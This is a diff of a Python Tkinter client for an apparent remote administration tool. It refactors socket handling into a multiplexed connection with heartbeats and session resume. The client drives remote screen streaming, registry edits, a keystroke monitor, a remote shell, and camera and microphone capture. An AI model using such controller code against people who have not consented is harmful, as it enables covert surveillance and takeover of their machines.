+                            # 服务器已按显示区域缩小, 这里只处理窗口刚缩小、新画面尚未到达的情况
+                            base.thumbnail(self._viewport)
+                            self.displayed_image_size = base.size
+                        # 光标由服务器单独发送, 画在画面上
+                        image = draw_cursor(base, compositor.cursor, base.width / self.original_screen_size[0])
+                        image = self._draw_latency(image, self.screen_tracer)
+                        photo = ImageTk.PhotoImage(image)
+                        # 光标帧不带追踪字段, 只记录画面帧
+                        trace = (msg, decode_start, time.time()) if msg['type'] != MessageType.SCREEN_CURSOR else None
+
+                        if self.streaming:
+                            self.after(0, lambda p=photo, t=trace: self._update_screen_frame(p, t))
+                    elif msg['type'] == MessageType.SCREEN_STOP:
+                        print("Received SCREEN_STOP from server")
+                        break
+                    else:
+                        print(f"Unexpected message type: {msg['type']}")
                 except Exception as e:
                     print(f"Screen frame error: {e}")
                     break
@@ -847,11 +1066,12 @@ class VisualClientUI(tk.Tk):
             self.after(0, lambda: self.btn_start_stream.config(state='normal'))
             self.after(0, lambda: self.btn_stop_stream.config(state='disabled'))
 
-    def _update_screen_frame(self, photo):
-        """更新屏幕帧"""
+    def _update_screen_frame(self, photo, trace=None):
+        """更新屏幕帧, trace 为 (帧消息, 开始解码时间, 解码完成时间)"""
         try:
             self.screen_label.configure(image=photo, text='')
             self.screen_label.image = photo
+            self._record_latency(self.screen_tracer, trace)
         except Exception as e:
             print(f"Update screen frame error: {e}")
 
@@ -932,19 +1152,17 @@ class VisualClientUI(tk.Tk):
 
         def _thread():
             try:
-                with self.sock_lock:
-                    send_message(self.sock, create_registry_query_message(hive, key_path, name))
-                    resp = receive_message(self.sock)
-
-                    if resp and resp['type'] == MessageType.REGISTRY_RESPONSE:
-                        if resp['data']['success']:
-                            result = json.dumps(resp['data'].get('result', {}), indent=2)
-                            self.after(0, lambda: self.registry_result.delete('1.0', tk.END))
-                            self.after(0, lambda: self.registry_result.insert('1.0', result))
-                            self.add_history("Registry", f"Queried: {hive}\\{key_path}", "Success")
-                        else:
-                            error = resp['data'].get('error', 'Unknown error')
-                            self.after(0, lambda: messagebox.showerror("Error", error))
+                resp = self._call(create_registry_query_message(hive, key_path, name), CONNECTION_TIMEOUT)
+
+                if resp and resp['type'] == MessageType.REGISTRY_RESPONSE:
+                    if resp['data']['success']:
+                        result = json.dumps(resp['data'].get('result', {}), indent=2)
+                        self.after(0, lambda: self.registry_result.delete('1.0', tk.END))
+                        self.after(0, lambda: self.registry_result.insert('1.0', result))
+                        self.add_history("Registry", f"Queried: {hive}\\{key_path}", "Success")
+                    else:
+                        error = resp['data'].get('error', 'Unknown error')
+                        self.after(0, lambda: messagebox.showerror("Error", error))
             except Exception as e:
                 print(f"Registry query error: {e}")
 
@@ -969,17 +1187,15 @@ class VisualClientUI(tk.Tk):
 
         def _thread():
             try:
-                with self.sock_lock:
-                    send_message(self.sock, create_registry_set_message(hive, key_path, name, value, value_type))
-                    resp = receive_message(self.sock)
-
-                    if resp and resp['type'] == MessageType.REGISTRY_RESPONSE:
-                        if resp['data']['success']:
-                            self.after(0, lambda: messagebox.showinfo("Success", "Registry value set successfully"))
-                            self.add_history("Registry", f"Set: {hive}\\{key_path}\\{name}", "Success")
-                        else:
-                            error = resp['data'].get('error', 'Unknown error')
-                            self.after(0, lambda: messagebox.showerror("Error", error))
+                resp = self._call(create_registry_set_message(hive, key_path, name, value, value_type), CONNECTION_TIMEOUT)
+
+                if resp and resp['type'] == MessageType.REGISTRY_RESPONSE:
+                    if resp['data']['success']:
+                        self.after(0, lambda: messagebox.showinfo("Success", "Registry value set successfully"))
+                        self.add_history("Registry", f"Set: {hive}\\{key_path}\\{name}", "Success")
+                    else:
+                        error = resp['data'].get('error', 'Unknown error')
+                        self.after(0, lambda: messagebox.showerror("Error", error))
             except Exception as e:
                 print(f"Registry set error: {e}")
 
@@ -996,17 +1212,15 @@ class VisualClientUI(tk.Tk):
 
         def _thread():
             try:
-                with self.sock_lock:
-                    send_message(self.sock, create_registry_delete_message(hive, key_path, name))
-                    resp = receive_message(self.sock)
-
-                    if resp and resp['type'] == MessageType.REGISTRY_RESPONSE:
-                        if resp['data']['success']:
-                            self.after(0, lambda: messagebox.showinfo("Success", "Registry value deleted"))
-                            self.add_history("Registry", f"Deleted: {hive}\\{key_path}\\{name or '(key)'}", "Success")
-                        else:
-                            error = resp['data'].get('error', 'Unknown error')
-                            self.after(0, lambda: messagebox.showerror("Error", error))
+                resp = self._call(create_registry_delete_message(hive, key_path, name), CONNECTION_TIMEOUT)
+
+                if resp and resp['type'] == MessageType.REGISTRY_RESPONSE:
+                    if resp['data']['success']:
+                        self.after(0, lambda: messagebox.showinfo("Success", "Registry value deleted"))
+                        self.add_history("Registry", f"Deleted: {hive}\\{key_path}\\{name or '(key)'}", "Success")
+                    else:
+                        error = resp['data'].get('error', 'Unknown error')
+                        self.after(0, lambda: messagebox.showerror("Error", error))
             except Exception as e:
                 print(f"Registry delete error: {e}")
 
@@ -1058,8 +1272,8 @@ class VisualClientUI(tk.Tk):
 
         def _thread():
             try:
-                with self.sock_lock:
-                    send_message(self.sock, create_keyboard_monitor_start_message())
+                self._ensure_connected()
+                self.conn.send(create_keyboard_monitor_start_message())
 
                 self.keyboard_monitoring = True
                 self.after(0, lambda: self.btn_start_keyboard.config(state='disabled'))
@@ -1068,10 +1282,14 @@ class VisualClientUI(tk.Tk):
                 # 开始接收键盘事件
                 while self.keyboard_monitoring:
                     try:
-                        with self.sock_lock:
-                            msg = receive_message(self.sock)
+                        msg = self.conn.receive(Channel.KEYBOARD, 1.0)
+                        if not msg:
+                            # 连接中断: 恢复会话后键盘监控继续
+                            if self.conn.closed and not self.resume():
+                                break
+                            continue
 
-                        if msg and msg['type'] == MessageType.KEYBOARD_EVENT:
+                        if msg['type'] == MessageType.KEYBOARD_EVENT:
                             key = msg['data']['key']
                             event_type = msg['data']['event_type']
                             timestamp = msg['data']['timestamp']
@@ -1094,16 +1312,8 @@ class VisualClientUI(tk.Tk):
         """停止键盘监控"""
         self.keyboard_monitoring = False
 
-        # 在独立线程中发送停止消息，避免死锁
-        def _send_stop():
-            try:
-                time.sleep(0.1)  # 给监控线程一点时间释放锁
-                with self.sock_lock:
-                    send_message(self.sock, create_keyboard_monitor_stop_message())
-            except Exception as e:
-                print(f"Send stop keyboard message error: {e}")
-
-        threading.Thread(target=_send_stop, daemon=True).start()
+        # 键盘通道独立于其他通道, 可直接发送停止消息
+        self.conn.send(create_keyboard_monitor_stop_message())
 
         self.btn_start_keyboard.config(state='normal')
         self.btn_stop_keyboard.config(state='disabled')
@@ -1153,20 +1363,17 @@ class VisualClientUI(tk.Tk):
         self.shell_entry.delete(0, tk.END)
         self.shell_text.insert(tk.END, f"{cmd}\n")
 
-        # 发送命令
-        with self.sock_lock:
-            send_message(self.sock, create_shell_message(cmd))
-
-        # 接收响应
-        threading.Thread(target=self._wait_shell_response, daemon=True).start()
+        # 发送命令, 响应到达时由后台接收线程回调 (不阻塞其他请求)
+        # 在界面线程中, 不在这里等待重连 (断线时由后台的接收循环恢复会话)
+        future = self.conn.request(create_shell_message(cmd))
+        future.add_done_callback(self._on_shell_response)
 
         self.add_history("Shell", f"Executed: {cmd}", "Success")
 
-    def _wait_shell_response(self):
-        """等待Shell响应"""
+    def _on_shell_response(self, future):
+        """Shell响应回调"""
         try:
-            with self.sock_lock:
-                resp = receive_message(self.sock)
+            resp = future.result()
             if resp and resp['type'] == MessageType.SHELL_RESPONSE:
                 output = resp['data']['output']
                 self.after(0, lambda: self.shell_text.insert(tk.END, f"{output}\n> "))
@@ -1255,35 +1462,106 @@ class VisualClientUI(tk.Tk):
             self.sock.settimeout(5)
             self.sock.connect((ip, port))
 
+            # 启动多路复用接收线程
+            self.conn = MuxConnection(self.sock)
+            self.conn.start_reader()
+
             # 身份验证
             import hashlib
             pwd_hash = hashlib.sha256(pwd.encode()).hexdigest()
 
             auth_msg = create_auth_message(pwd_hash)
-            send_message(self.sock, auth_msg)
+            future = self.conn.request(auth_msg)
 
-            resp = receive_message(self.sock)
+            resp = self.conn.wait(future, CONNECTION_TIMEOUT)
             if resp and resp['type'] == MessageType.AUTH_RESPONSE and resp['data']['success']:
                 self.is_connected = True
-                self.sock.settimeout(None)
+                self._server = (ip, port)
+                self.password_hash = pwd_hash
+                self.resume_token = resp['data'].get('resume_token')
+
+                # 心跳: 测量往返时延, 服务器失联时及时断开
+                self.heartbeat = Heartbeat(self.conn)
+                self.conn.heartbeat = self.heartbeat
+                self.heartbeat.start()
+
                 self._init_dashboard_ui()
                 self.add_history("Connection", f"Connected to {ip}:{port}", "Success")
             else:
                 messagebox.showerror("Error", "Authentication Failed")
-                self.sock.close()
+                self.conn.close()
 
         except Exception as e:
             messagebox.showerror("Connection Error", str(e))
 
+    def resume(self):
+        """
+        连接中断后重新连接并恢复会话 (见 resume.reconnect)
+
+        服务器保留会话期间凭恢复令牌接管原会话, 屏幕流/视频流保持原样;
+        会话已过期时用登录时的密码建立新会话
+
+        Returns:
+            bool: 是否恢复了原会话 (False 时若 self.conn 未关闭则已建立新会话)
+        """
+        with self._resume_lock:
+            if self.conn is None or not self.is_connected or not self.password_hash:
+                return False
+            if not self.conn.closed:
+                return self._resumed  # 其他线程已重连
+
+            print("Connection lost, resuming session...")
+            success, result = reconnect(*self._server, self.password_hash, self.resume_token)
+            if not success:
+                print(f"Resume failed: {result}")
+                self.add_history("Connection", result, "Failed")
+                return False
+            self.sock, self.conn, response = result
+            self.resume_token = response['data'].get('resume_token')
+            self._resumed = bool(response['data'].get('resumed'))
+
+            if self.heartbeat:
+                self.heartbeat.stop()
+            self.heartbeat = Heartbeat(self.conn)
+            self.conn.heartbeat = self.heartbeat
+            self.heartbeat.start()
+
+            self.add_history("Connection", "Session resumed" if self._resumed else "Session expired, new session started",
+                             "Success")
+            return self._resumed
+
+    def _ensure_connected(self):
+        """连接已中断时先恢复会话 (各请求发送前调用)"""
+        if self.conn is not None and self.conn.closed:
+            self.resume()
+
+    def _call(self, message, timeout=None, payload=None):
+        """发送请求并等待响应 (连接中断时先恢复会话; 请求途中断开则恢复会话后返回 None)"""
+        self._ensure_connected()
+        resp = self.conn.call(message, timeout, payload)
+        if resp is None:
+            self._ensure_connected()
+        return resp
+
+    def _request(self, message, payload=None):
+        """发送请求, 不等待响应 (连接中断时先恢复会话)"""
+        self._ensure_connected()
+        return self.conn.request(message, payload)
+
     def disconnect(self):
         """断开连接"""
+        self.is_connected = False
+        self.resume_token = None
         self.streaming = False
         self.keyboard_monitoring = False
         self.camera_streaming = False
-        if self.sock:
+        if self.heartbeat:
+            self.heartbeat.stop()
+            self.heartbeat = None
+        if self.conn:
             try:
-                send_message(self.sock, create_disconnect_message())
-                self.sock.close()
+                self.conn.send(create_disconnect_message())
+                self.conn.close()
             except:
                 pass
         
@@ -1295,14 +1573,13 @@ class VisualClientUI(tk.Tk):
         """请求截图"""
         def _thread():
             try:
-                with self.sock_lock:
-                    send_message(self.sock, create_screenshot_message())
-                    header = receive_message(self.sock)
-                    if header and header['type'] == MessageType.SCREENSHOT_DATA:
-                        img_data = receive_binary_data(self.sock)
-                        if img_data:
-                            self.after(0, lambda: self._show_image(img_data, "Screenshot"))
-                            self.add_history("Screenshot", "Captured screenshot", "Success")
+                header = self._call(create_screenshot_message(self._monitor), CONNECTION_TIMEOUT)
+                if header and header['type'] == MessageType.SCREENSHOT_DATA:
+                    img_data = header.get('payload')
+                    if img_data:
+                        image = decode_image(img_data)
+                        self.after(0, lambda: self._show_image(image, "Screenshot"))
+                        self.add_history("Screenshot", "Captured screenshot", "Success")
             except Exception as e:
                 print(f"Screenshot error: {e}")
         threading.Thread(target=_thread, daemon=True).start()
@@ -1311,14 +1588,12 @@ class VisualClientUI(tk.Tk):
         """请求摄像头拍照"""
         def _thread():
             try:
-                with self.sock_lock:
-                    send_message(self.sock, create_camera_message())
-                    header = receive_message(self.sock)
-                    if header and header['type'] == MessageType.CAMERA_DATA:
-                        if header['data']['success']:
-                            img_data = receive_binary_data(self.sock)
-                            self.after(0, lambda: self._show_image(img_data, "Camera Photo"))
-                            self.add_history("Camera", "Captured camera photo", "Success")
+                header = self._call(create_camera_message(), CONNECTION_TIMEOUT)
+                if header and header['type'] == MessageType.CAMERA_DATA:
+                    if header['data']['success']:
+                        image = decode_image(header['payload'])
+                        self.after(0, lambda: self._show_image(image, "Camera Photo"))
+                        self.add_history("Camera", "Captured camera photo", "Success")
             except Exception as e:
                 print(f"Camera error: {e}")
         threading.Thread(target=_thread, daemon=True).start()
@@ -1330,30 +1605,27 @@ class VisualClientUI(tk.Tk):
         if duration:
             def _thread():
                 try:
-                    with self.sock_lock:
-                        send_message(self.sock, create_mic_record_message(duration=duration))
-                        header = receive_message(self.sock)
-                        if header and header['type'] == MessageType.MIC_RECORD_RESPONSE:
-                            if header['data']['success']:
-                                audio_data = receive_binary_data(self.sock)
-                                save_path = filedialog.asksaveasfilename(defaultextension=".wav",
-                                                                         filetypes=[("WAV files", "*.wav")])
-                                if save_path:
-                                    with open(save_path, 'wb') as f:
-                                        f.write(audio_data)
-                                    self.after(0, lambda: messagebox.showinfo("Success", f"Audio saved to {save_path}"))
-                                    self.add_history("Microphone", f"Recorded {duration}s audio", "Success")
+                    header = self._call(create_mic_record_message(duration=duration), CONNECTION_TIMEOUT)
+                    if header and header['type'] == MessageType.MIC_RECORD_RESPONSE:
+                        if header['data']['success']:
+                            audio_data = header.get('payload')
+                            save_path = filedialog.asksaveasfilename(defaultextension=".wav",
+                                                                     filetypes=[("WAV files", "*.wav")])
+                            if save_path:
+                                with open(save_path, 'wb') as f:
+                                    f.write(audio_data)
+                                self.after(0, lambda: messagebox.showinfo("Success", f"Audio saved to {save_path}"))
+                                self.add_history("Microphone", f"Recorded {duration}s audio", "Success")
                 except Exception as e:
                     print(f"Mic record error: {e}")
             threading.Thread(target=_thread, daemon=True).start()
 
-    def _show_image(self, img_data, title="Image"):
-        """显示图片"""
+    def _show_image(self, img, title="Image"):
+        """显示图片 (img 为已解码的 PIL.Image)"""
         top = tk.Toplevel(self)
         top.title(title)
         top.configure(bg='black')
 
-        img = Image.open(io.BytesIO(img_data))
         img.thumbnail((1280, 720))
         photo = ImageTk.PhotoImage(img)
 